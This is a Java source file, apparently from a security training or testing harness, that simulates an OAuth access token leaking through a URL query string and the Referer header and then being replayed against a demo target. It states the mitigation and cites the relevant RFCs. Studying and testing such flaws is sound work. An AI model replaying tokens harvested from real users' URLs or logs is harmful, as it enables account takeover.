package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;

/** Reads an access token out of the Referer of a page that it opened. */
@AutoService(Attack.class)
public final class OauthTokenInQuery implements Attack {
  @Override
  public AttackCard card() {
    return new AttackCard(
        "oauth-token-in-query",
        "A token read out of a Referer",
        AttackGroup.OAUTH,
        "The attacker’s site is linked from a page whose address has Alice’s access token in it.",
        "A link that Alice follows, or a log with addresses in it.",
        "The server takes tokens out of URLs, so clients send them there, and browsers and logs pass them on.",
        "token-in-query",
        List.of("RFC 6750 §5.3", "RFC 9700 §4.3.2"),
        "Take tokens from the Authorization header alone, so that no client gets to work otherwise.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    String token = target.loot().secret(Loot.VICTIM, "jwt");
    String address = Events.VICTIMS + "?access_token=" + token;
    Hop working =
        target.send(
            AttackStep.VICTIM,
            "Alice opens her events in a client that puts the token into the address.",
            target.get(address));
    if (!Events.areIn(working)) {
      // It has never worked, so nobody uses such a client.
      return target.end(false, Events.GAIN);
    }
    target.makes(
        "Alice follows a link to the attacker’s page. Her browser tells it where she came from.",
        "Referer",
        target.base().resolve(address).toString());
    Hop answer =
        target.send(
            "Use the token that stands in it.",
            JwtAttack.withToken(target.get(Events.VICTIMS), token));
    return target.end(Events.areIn(answer), Events.GAIN);
  }
}
